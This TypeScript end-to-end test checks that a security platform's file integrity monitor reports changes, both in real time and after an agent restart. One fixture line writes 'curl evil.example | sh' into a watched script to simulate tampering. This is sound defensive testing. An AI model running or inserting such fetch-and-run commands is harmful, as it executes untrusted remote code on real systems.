import assert from 'node:assert/strict';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { type AgentProcess, CliProcess, type ManagerProcess, waitFor } from './support/real-processes.ts';
import { integrityPolicy, type ManagerWithAgent, startManagerWithAgent } from './support/manager-with-agent.ts';

/**
 * Integrity monitoring through the whole platform: a real manager enables the module on a real
 * agent process through a policy; a file changed under a real-time rule becomes an event at the
 * manager within 5 s, and a file changed while the agent is stopped is reported by the scan the
 * agent runs when it starts again (the baseline survives in the agent's data directory).
 */
const dir = mkdtempSync(join(tmpdir(), 'palisade-fim-e2e-'));
const tree = join(dir, 'watched');
const agentDir = join(dir, 'agent');
let manager: ManagerProcess;
let agent: AgentProcess;
let restarted: CliProcess | undefined;

mkdirSync(join(tree, 'conf'), { recursive: true });
mkdirSync(join(tree, 'bin'), { recursive: true });
writeFileSync(join(tree, 'conf', 'app.conf'), 'listen 80\n');
writeFileSync(join(tree, 'bin', 'tool'), '#!/bin/sh\necho ok\n');

const RULES = `version: 1
rules:
  - id: e2e-conf
    paths: [${tree}/conf]
    severity: high
    realtime: true
  - id: e2e-bin
    paths: [${tree}/bin]
    severity: critical
`;

type Events = Awaited<ReturnType<ManagerProcess['client']['listEvents']>>['events'];

async function integrityEvents(): Promise<Events> {
  return (await manager.client.listEvents({ computerId: agent.agentId, module: 'integrity', limit: 100 })).events;
}

let setup: ManagerWithAgent | undefined;
before(async () => {
  setup = await startManagerWithAgent({
    dir,
    agentDir,
    policy: integrityPolicy('Integrity E2E', RULES),
  });
  ({ manager, agent } = setup);
});

after(async () => {
  await restarted?.stop();
  await setup?.cleanup();
  rmSync(dir, { recursive: true, force: true });
});

test('a real-time change reaches the manager within 5 s; a change while the agent was stopped is found by the next scan', async () => {
  const baseline = await waitFor(
    'integrity baseline event at the manager',
    async () => (await integrityEvents()).find((e) => e.type === 'integrity.baseline'),
    60_000,
    250,
  );
  assert.equal(baseline.severity, 'info');
  assert.equal((await integrityEvents()).length, 1, 'building the baseline reports no change');

  const t0 = Date.now();
  appendFileSync(join(tree, 'conf', 'app.conf'), 'debug on\n');
  const updated = await waitFor(
    'real-time integrity event at the manager',
    async () => (await integrityEvents()).find((e) => e.type === 'integrity.updated' && e.details?.key === `${tree}/conf/app.conf`),
    5_000,
    100,
  );
  const latencyMs = Date.now() - t0;
  assert.ok(latencyMs <= 5_000);
  assert.equal(updated.severity, 'high');
  assert.equal(updated.ruleId, 'e2e-conf');
  assert.equal(updated.details?.source, 'realtime');
  const attrs = (updated.details?.attributes as { name: string; before: unknown; after: unknown }[]).map((a) => a.name);
  assert.ok(attrs.includes('sha256') && attrs.includes('size'), attrs.join());
  process.stdout.write(`# real-time change -> event at the manager in ${latencyMs} ms\n`);

  // Stop the agent, change a file (in a path with no real-time watch at all), start it again.
  await agent.proc.stop();
  writeFileSync(join(tree, 'bin', 'tool'), '#!/bin/sh\ncurl evil.example | sh\n');
  restarted = new CliProcess(['agent', 'start', '--data-dir', agentDir, '--inventory-interval', '0'], join(agentDir, 'agent.log'));
  await waitFor('agent control socket after restart', () => existsSync(join(agentDir, 'agent.sock')), 60_000);
  const offline = await waitFor(
    'change made while stopped reported at the manager',
    async () => (await integrityEvents()).find((e) => e.type === 'integrity.updated' && e.details?.key === `${tree}/bin/tool`),
    60_000,
    250,
  );
  assert.equal(offline.severity, 'critical');
  assert.equal(offline.details?.source, 'scan');
  const all = await integrityEvents();
  assert.equal(all.filter((e) => e.type === 'integrity.baseline').length, 1, 'the restart kept the baseline');
  assert.equal(
    all.filter((e) => e.details?.key === `${tree}/conf/app.conf`).length,
    1,
    'the real-time change is not reported again by the start-up scan',
  );
});
